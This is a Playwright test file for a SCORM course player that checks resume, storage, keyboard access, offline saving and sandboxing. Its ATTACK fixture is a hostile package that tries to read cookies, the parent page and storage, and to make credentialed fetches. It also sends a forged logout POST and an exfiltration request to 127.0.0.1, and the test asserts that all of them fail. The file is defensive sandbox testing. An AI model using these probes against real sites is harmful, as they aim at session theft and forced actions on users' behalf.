"""SCORM packages in Chromium: nothing that was done is lost, and nothing leads out of a package."""

import itertools
import re

import pytest
from playwright.sync_api import FrameLocator, Page, expect

from tests.browser.looking import faults, watched
from tests.courses.scorm import HEAD_12, HEAD_2004, ONE_12, packed

PART = """<!doctype html><html lang="de"><title>Teil</title><h1>Teil</h1><p id="wo"></p>
<button id="los">Antworten</button><button id="leise">Weiter</button><button id="fertig">Fertig</button>
<script>
let place = window;
while (!place.API_1484_11 && place.parent !== place) place = place.parent;
const api = place.API_1484_11;
api.Initialize("");
const said = ["cmi.entry", "cmi.location"].map((each) => api.GetValue(each));
wo.textContent = `${said.join(" ")} ${api.GetValue("cmi.suspend_data").length}`;
los.onclick = () => {
  api.SetValue("cmi.location", "7");
  api.SetValue("cmi.suspend_data", "ä".repeat(SIZE));
  api.Commit("");
};
leise.onclick = () => api.SetValue("cmi.location", "8");
fertig.onclick = () => {
  api.SetValue("cmi.completion_status", "completed");
  api.SetValue("cmi.success_status", "passed");
  api.SetValue("cmi.score.scaled", "0.9");
  api.SetValue("cmi.session_time", "PT1S");
  api.Terminate("");
};
</script></html>"""
ATTACK = """<!doctype html><html lang="de"><title>Angriff</title><h1>Angriff</h1><p id="wo">läuft</p>
<script type="module">
const tries = {
  cookie: () => document.cookie,
  page: () => top.document.body.innerText,
  storage: () => top.localStorage.length,
  referrer: () => document.referrer,
  away: () => { top.location.href = "/p/fremd"; return "weg"; },
  session: () => fetch("APP/konto", { credentials: "include" }).then((a) => a.text()),
  form: () => fetch("APP/abmelden", { method: "POST", credentials: "include", mode: "no-cors" }),
  house: () => fetch("/konto").then((a) => (a.ok ? a.text() : "")),
  other: () => fetch("/p/" + "x".repeat(32) + "/f/index.html").then((a) => (a.ok ? "da" : "")),
  outside: () => fetch("http://127.0.0.1:9/?geheim", { mode: "no-cors" }),
  worker: () => navigator.serviceWorker.register("x.js").then(() => "da"),
  traces: () => localStorage.getItem("spur"),
};
const got = [];
for (const [name, attempt] of Object.entries(tries)) {
  wo.textContent = name;
  try { if (await attempt()) got.push(name); } catch { continue; }
}
try { localStorage.setItem("spur", "da"); } catch (e) { wo.dataset.e = String(e); }
wo.textContent = "bekommen: " + got.join(" ");
</script></html>"""
TWO = """<organizations default="o"><organization identifier="o"><title>%s</title>
<item identifier="eins" identifierref="r1"><title>Erster Teil</title></item>
<item identifier="zwei" identifierref="r1" parameters="?zwei"><title>Zweiter Teil</title></item>
</organization></organizations><resources>
<resource identifier="r1" type="webcontent" adlcp:scormType="sco" href="index.html"/>
</resources></manifest>"""
ONE = re.sub(r"<item identifier=.zwei.*?</item>", "", TWO, flags=re.DOTALL)
OLD_ONE = re.sub("<adlcp:mastery.*score>", "", ONE_12).replace("Ladung sichern", "%s")
OLD_PART = """<!doctype html><html lang="de"><title>Teil</title><h1>Teil</h1>
<button id="ende">Ende</button><script>
parent.API.LMSInitialize("");
ende.onclick = () => { SAID; parent.API.LMSFinish(""); };
</script></html>"""
numbers = itertools.count(1)


@pytest.fixture
def course(person, site):
    """Bring a package in as an editor does; returns where its window opens, for an enrolled Ben."""

    def made(body: str, page: str, head: str = HEAD_2004) -> str:
        title = f"Paket {next(numbers)}"
        rosa, ben = person("redaktion"), person("ben")
        rosa.goto("/redaktion/pakete/neu")
        file = packed({"imsmanifest.xml": head + body % title, "index.html": page, "x.js": ""})
        sent = {"name": "p.zip", "mimeType": "application/zip", "buffer": file.getvalue()}
        rosa.locator("input[type=file]").set_input_files(sent)
        rosa.get_by_role("button", name="Paket prüfen").click()
        rosa.get_by_role("button", name="Kurs machen und anbieten").click()
        rosa.wait_for_url("**/lernen/*")
        ben.goto(rosa.url)
        ben.get_by_role("button", name="Kurs beginnen").click()
        ben.wait_for_url("**/lektionen/paket")
        return f"{ben.url}/pakete/0"

    return made


def player(page: Page) -> FrameLocator:
    return page.frame_locator("[data-package]")


def part(page: Page) -> FrameLocator:
    return player(page).frame_locator("#part")


def saved(page: Page) -> None:
    expect(player(page).locator("#state")).to_have_text("Gespeichert")


def test_after_a_closed_tab_one_goes_on_at_the_same_place_with_everything_kept(
    person, site, course
):
    window = course(ONE, PART.replace("SIZE", "60000"))
    ben = person("ben", width=390)
    ben.goto(window)
    expect(part(ben).locator("#wo")).to_have_text("ab-initio  0")
    part(ben).get_by_role("button", name="Antworten").click()
    saved(ben)
    part(ben).get_by_role("button", name="Weiter").click()
    ben.close()  # at once: what was set last goes out with the closing window
    again = person("ben")
    with watched(again, site.address):
        again.goto(window)
        expect(part(again).locator("#wo")).to_have_text("resume 8 60000")
        part(again).get_by_role("button", name="Fertig").click()
        expect(again.locator("[data-state]")).to_have_text("erledigt")
    again.get_by_role("link", name="Paket verlassen").press("Enter")
    expect(again.locator("main")).to_contain_text("Ergebnis: 90 %")
    expect(again.get_by_role("complementary")).to_contain_text(re.compile("zu 100\\s%"))


@pytest.mark.parametrize(
    ("said", "state"),
    [
        ("", "erledigt"),
        ('parent.API.LMSSetValue("cmi.core.exit", "suspend")', "noch nicht geschafft"),
    ],
)
def test_a_part_that_tells_nothing_but_its_end_is_complete_unless_it_goes_on(
    person, course, said, state
):
    window = course(OLD_ONE, OLD_PART.replace("SAID", said), HEAD_12)
    ben = person("ben")
    ben.goto(window)
    part(ben).get_by_role("button", name="Ende").click()
    saved(ben)
    expect(ben.locator("[data-state]")).to_have_text(state)


def test_more_is_kept_than_the_standard_promises(person, course):
    window = course(ONE, PART.replace("SIZE", "300000"))
    ben = person("ben")
    ben.goto(window)
    part(ben).get_by_role("button", name="Antworten").click()
    saved(ben)
    ben.reload()
    expect(part(ben).locator("#wo")).to_have_text("resume 7 300000")


def test_several_parts_are_chosen_from_the_contents_by_keyboard(person, course):
    window = course(TWO, PART.replace("SIZE", "10"))
    ben = person("ben")
    ben.goto(window)
    expect(part(ben).locator("#wo")).to_have_text("ab-initio  0")
    part(ben).get_by_role("button", name="Weiter").click()
    contents = player(ben).locator("summary")
    contents.focus()
    ben.keyboard.press("Enter")
    ben.keyboard.press("Tab")
    ben.keyboard.press("Tab")
    expect(player(ben).get_by_role("button", name="Zweiter Teil")).to_be_focused()
    ben.keyboard.press("Enter")
    expect(part(ben).locator("#wo")).to_have_text("ab-initio  0")
    part(ben).get_by_role("button", name="Fertig").click()
    expect(ben.locator("[data-state]")).to_have_text("1 von 2 Teilen geschafft")
    ben.goto(window)  # the part that is not done yet, where it was
    expect(part(ben).locator("#wo")).to_have_text("resume 8 0")
    part(ben).get_by_role("button", name="Fertig").click()
    expect(ben.locator("[data-state]")).to_have_text("2 von 2 Teilen geschafft")


def test_the_keyboard_leads_into_the_package_and_out_again(person, course):
    window = course(ONE, PART.replace("SIZE", "10"))
    ben = person("ben")
    ben.goto(window)
    expect(part(ben).locator("#wo")).to_have_text("ab-initio  0")
    ben.get_by_role("link", name="Paket überspringen").focus()
    ben.get_by_role("button", name="Ganzer Bildschirm").focus()
    focused = part(ben).locator(":focus")
    for _ in range(6):
        ben.keyboard.press("Tab")
        if focused.count() and focused.text_content() == "Fertig":
            break
    assert focused.text_content() == "Fertig"
    ben.keyboard.press("Tab")
    expect(ben.get_by_role("link", name="Paket verlassen")).to_be_focused()


def test_of_two_windows_the_older_one_is_told_and_loses_nothing(person, course):
    window = course(ONE, PART.replace("SIZE", "10"))
    older = person("ben")
    older.goto(window)
    part(older).get_by_role("button", name="Weiter").click()
    newer = older.context.new_page()
    newer.goto(window)
    expect(part(newer).locator("#wo")).to_have_text("resume 8 0")
    expect(player(older).get_by_role("alert")).to_contain_text("in einem anderen Fenster offen")
    part(newer).get_by_role("button", name="Antworten").click()
    saved(newer)
    newer.close()
    player(older).get_by_role("button", name="Hier weitermachen").click()
    expect(part(older).locator("#wo")).to_have_text("resume 7 10")


def test_without_a_connection_it_says_so_and_saves_later(person, course):
    window = course(ONE, PART.replace("SIZE", "10"))
    ben = person("ben")
    ben.goto(window)
    expect(part(ben).locator("#wo")).to_have_text("ab-initio  0")
    ben.context.set_offline(True)
    part(ben).get_by_role("button", name="Antworten").click()
    expect(player(ben).locator("#state")).to_contain_text("Die Verbindung fehlt")
    ben.context.set_offline(False)
    saved(ben)
    ben.reload()
    expect(part(ben).locator("#wo")).to_have_text("resume 7 10")


def test_a_hostile_package_gets_nothing(person, site, course):
    attack = ATTACK.replace("APP", site.address)
    windows = [course(ONE, attack), course(ONE, attack)]
    ben = person("ben")
    asked: list[str] = []
    ben.on("request", lambda request: asked.append(request.url))
    for window in windows:
        ben.goto(window)
        expect(part(ben).locator("#wo")).to_have_text("bekommen: ")
        assert ben.url.endswith(window)
    ben.goto("/konto")
    expect(ben.locator("form[action='/abmelden']")).to_be_visible()
    assert not [url for url in asked if "geheim" in url]


def test_the_page_of_a_running_package_is_accessible(person, course):
    window = course(TWO, PART.replace("SIZE", "10"))
    ben = person("ben", width=320)
    ben.goto(window)
    expect(part(ben).locator("#wo")).to_have_text("ab-initio  0")
    alone = ben.context.new_page()
    alone.goto(ben.locator("[data-package]").get_attribute("src"))
    alone.locator("summary").click()
    assert faults(alone) == []
